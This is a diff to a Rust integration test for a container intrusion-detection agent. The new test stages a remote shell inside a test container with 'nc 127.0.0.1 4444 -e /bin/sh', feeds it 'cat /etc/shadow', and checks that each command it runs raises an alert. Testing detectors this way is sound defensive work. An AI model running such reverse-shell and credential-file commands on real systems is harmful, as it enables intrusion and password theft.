@@ -369,6 +369,7 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
 /// server asked for (the probe reports a new connection's first data), so the model knows the
 /// workload's own request (`GET /index.html` on 8080). A request for a page it never served
 /// then alerts at once, named, while the same program (`wget`) fetching the known page does not.
+/// Then a remote shell: each command it reads from the network alerts, quoted.
 #[test]
 fn agent_names_a_request_the_container_never_served_in_training() {
     if !enabled() {
@@ -478,6 +479,47 @@ fn agent_names_a_request_the_container_never_served_in_training() {
         "{body}"
     );
     assert!(metric(&body, "mamori_alerts_total", c) >= 1.0, "{body}");
+
+    // A remote shell: `nc -e /bin/sh` connects out and runs a shell on the connection, whose
+    // standard input is then the socket; a listener in the same container plays the attacker
+    // and sends two commands. The probe reads what the shell reads, and each line alerts,
+    // quoted, at the time the shell reads it.
+    let before = alerts_in(&alerts).len();
+    let t0 = Instant::now();
+    let _shell = KillOnDrop(
+        Command::new("docker")
+            .args(["exec", c, "sh", "-c"])
+            .arg(
+                "(sleep 1; echo 'cat /etc/shadow'; sleep 1; echo exit; sleep 1) \
+                 | nc -l -p 4444 >/dev/null & sleep 0.5; nc 127.0.0.1 4444 -e /bin/sh; wait",
+            )
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("docker exec runs"),
+    );
+    let commands = |from: usize| -> Vec<String> {
+        alerts_in(&alerts)
+            .into_iter()
+            .skip(from)
+            .filter(|x| x["record"] == "alert" && x["detector"] == "network-stdin")
+            .filter_map(|x| x["evidence"]["data"]["what"].as_str().map(str::to_string))
+            .collect()
+    };
+    while commands(before).len() < 2 {
+        assert!(
+            t0.elapsed() < Duration::from_secs(15),
+            "the remote shell's commands did not alert; alerts since: {:?}",
+            &alerts_in(&alerts)[before..]
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert_eq!(
+        commands(before),
+        ["->4444: cat /etc/shadow", "->4444: exit"],
+        "{:?}",
+        &alerts_in(&alerts)[before..]
+    );
 }
 
 #[test]
